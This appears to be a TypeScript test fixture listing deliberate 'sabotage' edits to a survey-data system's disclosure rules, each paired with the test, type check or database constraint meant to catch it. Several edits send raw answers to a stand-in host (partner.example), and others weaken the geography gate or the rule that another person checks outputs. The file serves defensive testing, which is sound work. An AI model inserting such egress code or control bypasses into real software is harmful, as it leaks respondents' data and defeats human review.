/** What leaves the team (rules 19 and 23 to 25). */
import { by, change, type Planned, types, write } from "./sabotage.ts"
import { geographyRule, widened, widenings } from "./widened.ts"

const router = "src/server/router.ts"
const submit = "src/server/submit.ts"
const matched = "  const matched = yield* match(admitted)\n"
const speaks = by("test", "architecture.test.ts", "nothing speaks to another host by what needs no import")

const sharing: readonly Planned[] = [
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import",
    edits: [
      write(
        "src/server/export.ts",
        `import { request } from "node:https"

export const share = (answers: string) => request("https://partner.example", { method: "POST" }).end(answers)`,
      ),
    ],
    caughtBy: [by("test", "architecture.test.ts", "nothing opens a connection but the browser's own tRPC client")],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import at run time",
    edits: [
      write(
        "src/server/export.ts",
        `export const share = async (answers: string) => {
  const { request } = await import("node:https")
  request("https://partner.example", { method: "POST" }).end(answers)
}`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "of a response",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "by its longer name",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => globalThis.fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
]

const wayOut = "db/evidence/migrations/006-releases.ts"
const keptReleases = "db/releases.test.ts"

const published: readonly Planned[] = [
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "by a procedure",
    edits: [
      change(
        router,
        "import { busy, refused }",
        'import type { Checked } from "../../policy/stage.ts"\nimport { busy, refused }',
      ),
      change(router, "return RegisterMatches.of(exit.value)", "return exit.value as unknown as readonly Checked[]"),
    ],
    caughtBy: [types("raw-data-never-shared")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "as a table",
    edits: [
      write(
        "src/server/publishing.ts",
        `import type { TableDraft } from "../../policy/disclosure/table.ts"
import type { Checked } from "../../policy/stage.ts"

export const proposed = (rows: readonly Checked[]): TableDraft => ({
  title: "All answers",
  geographies: ["England"],
  cells: rows,
})`,
      ),
    ],
    caughtBy: [{ layer: "types", says: "is missing the following properties from type 'Cell'" }],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "in the call",
    edits: [
      write(
        "src/server/publishing.ts",
        `import { nationalOrRegional } from "../../policy/rules/aggregates-only-beyond-the-team.ts"

export const draft = nationalOrRegional({ title: "Hopes by council", geographies: ["E09000007"], cells: [] })`,
      ),
    ],
    caughtBy: [types("aggregates-only-beyond-the-team")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "past the gate",
    edits: [
      change(
        geographyRule,
        "if (table.geographies.every(isPublishable)) return Effect.void",
        'if (table.geographies.every((each) => isPublishable(each) || each.startsWith("E"))) return Effect.void',
      ),
    ],
    caughtBy: [by("runtime", "policy/aggregates-only-beyond-the-team.test.ts", "any geography but England")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "past the database",
    edits: [change(widenings, 'const coarse = ["England",', 'const coarse = ["E09000007", "England",')],
    caughtBy: [by("database", keptReleases, "on sqlite by SQL, a published count of 1 to 9 and a geography")],
  },
]

const outputs = "policy/rules/outputs-checked.ts"

const checking: readonly Planned[] = [
  {
    rule: "outputs-checked",
    sabotage: "author checks own table",
    edits: [
      change(
        outputs,
        "checks.some(({ person }) => person === author)",
        "checks.every(({ person }) => person === author)",
      ),
    ],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the author as a checker, in either place")],
  },
  {
    rule: "outputs-checked",
    sabotage: "author checks own table",
    way: "past the database",
    edits: [change(wayOut, "(author = new.person or proposed_on > new.checked_on)", "(proposed_on > new.checked_on)")],
    caughtBy: [by("database", keptReleases, "on sqlite by SQL, the author as a checker")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "by naming one alone",
    edits: [
      write(
        "src/server/checking.ts",
        `import type { OutputCheck } from "../../policy/disclosure/output-check.ts"
import { checkedBy } from "../../policy/rules/outputs-checked.ts"

export const alone = (check: OutputCheck) => checkedBy(check)`,
      ),
    ],
    caughtBy: [types("outputs-checked")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "past the gate",
    edits: [change(outputs, "< checks.length ? twice : undefined", "< checks.length - 9 ? twice : undefined")],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the same checker twice")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "past the database",
    edits: [change(wayOut, "} < 2`", "} < 1`")],
    caughtBy: [by("database", keptReleases, "on sqlite by SQL, the author as a checker")],
  },
]

export const beyondSabotages: readonly Planned[] = [...sharing, ...published, ...widened, ...checking]
